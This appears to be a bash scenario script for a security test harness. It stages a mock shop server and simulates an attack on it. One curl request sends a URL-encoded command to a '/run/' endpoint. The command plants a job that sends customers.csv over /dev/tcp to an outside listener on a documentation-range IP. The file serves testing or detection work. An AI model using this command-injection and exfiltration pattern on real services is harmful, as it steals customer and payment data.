# shellcheck shell=bash disable=SC2034
HOST=box01
FORMAT=RAW

scenario() {
    local python=(/usr/bin/python3 -S -B) here=$folder/../jobs
    mkdir -p /srv/shop/jobs
    cp "$here/service.py" "$here/timer.py" /srv/shop
    echo "name,card" >/srv/shop/customers.csv
    echo "item,price" >/srv/shop/prices.csv
    echo 'grep -c item /srv/shop/prices.csv > /srv/shop/report.txt' >/srv/shop/jobs/report
    outside "${python[@]}" -m http.server --bind 203.0.113.9 443 --directory /srv >/dev/null 2>&1 &
    inside unshare --pid --mount --fork --kill-child --mount-proc /bin/bash -c "mount --bind /srv/shop/jobs /mnt; exec ${python[*]} /srv/shop/service.py" >/dev/null 2>&1 &
    inside "${python[@]}" /srv/shop/timer.py >/dev/null 2>&1 &
    sleep 3
    outside curl -s --interface 198.51.100.23 "http://10.88.0.10:8080/run/echo%20%27exec%203%3C%3E/dev/tcp/203.0.113.9/443%3B%20cat%20/srv/shop/customers.csv%20%3E%263%27%20%3E%20/mnt/refresh"
    sleep 3
    outside curl -s --interface 192.0.2.7 http://10.88.0.10:8080/
    sleep 1
}
